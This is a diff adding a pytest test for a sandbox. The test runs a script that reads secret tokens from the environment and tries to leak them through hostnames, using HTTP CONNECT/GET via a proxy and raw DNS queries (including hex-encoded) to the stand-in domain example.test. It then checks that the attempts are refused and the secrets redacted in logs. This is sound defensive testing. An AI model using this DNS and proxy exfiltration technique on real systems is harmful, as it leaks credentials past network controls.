@@ -177,3 +177,56 @@ def test_agent_events_redact_every_field(monkeypatch: pytest.MonkeyPatch) -> Non
     assert "[REDACTED:TOKEN]" in json.dumps(dumped)
     assert_nowhere(dumped)
     assert_nowhere(result.to_dict())
+
+
+#: Mixed case (the proxy and DNS fold names to lower case), and one with bytes DNS escapes
+#: (` ` as `\032`, `.` inside a label as `\.`).
+MIXED = "Mx7SeCrEtK3yQ9zW"
+ODD = "odd sec.ret-Q7v"
+
+REFUSED_FOLDED = """
+    import base64
+    s, odd = os.environ["TOKEN"], os.environ["ODD"]
+    def proxy(line):
+        c = socket.create_connection(("127.0.0.1", 3128), timeout=10)
+        c.sendall(line.encode())
+        reply = c.recv(4096).split(b"\\r\\n")[0].decode()
+        c.close()
+        return reply
+    def dns(labels):
+        server = [l.split()[1] for l in open("/etc/resolv.conf") if l.startswith("nameserver")][0]
+        q = b"\\x12\\x34\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00"
+        q += b"".join(bytes([len(l)]) + l for l in labels) + b"\\x00\\x00\\x01\\x00\\x01"
+        u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+        u.settimeout(10)
+        u.sendto(q, (server, 53))
+        return u.recv(512)[3] & 15
+    name = s + ".example.test"
+    report(tried=[
+        proxy(f"CONNECT {name}:443 HTTP/1.1\\r\\nHost: {name}:443\\r\\n\\r\\n"),
+        proxy(f"GET http://{name}/ HTTP/1.1\\r\\nHost: {name}\\r\\n\\r\\n"),
+        dns([s.encode(), b"example", b"test"]),
+        dns([odd.encode(), b"example", b"test"]),
+        dns([s.encode().hex().upper().encode(), b"example", b"test"]),
+    ])
+"""
+
+
+def test_secret_in_a_refused_name_is_redacted_whatever_its_case(sandbox: Runner,
+                                                                loopback_port: int) -> None:
+    res = sandbox.run(["python3", "-c", PRELUDE + textwrap.dedent(REFUSED_FOLDED)],
+                      allow_net=[f"127.0.0.1:{loopback_port}"],
+                      secrets={"TOKEN": MIXED, "ODD": ODD})
+    assert (res.reason, res.exit_code) == ("exited", 0), res.stderr
+    tried = json.loads(res.stdout.splitlines()[-1])["tried"]
+    # Every attempt was really made and refused (403 from the proxy, NXDOMAIN from DNS).
+    assert tried[0].startswith("HTTP/1.1 403") and tried[1].startswith("HTTP/1.1 403"), tried
+    assert tried[2:] == [3, 3, 3], tried
+    hosts = {(v["host"], v["port"]) for v in res.violations if v["kind"] == "network"}
+    assert {("[REDACTED:TOKEN].example.test", 443), ("[REDACTED:TOKEN].example.test", 80),
+            ("[REDACTED:TOKEN].example.test", 0),
+            ("[REDACTED:ODD].example.test", 0)} <= hosts, hosts
+    dumped = json.dumps(res.violations)
+    for secret in (MIXED, ODD):
+        for form in (secret, secret.lower(), secret.encode().hex(), "odd\\\\032sec", "sec\\\\.ret"):
+            assert form not in dumped, (form, dumped)
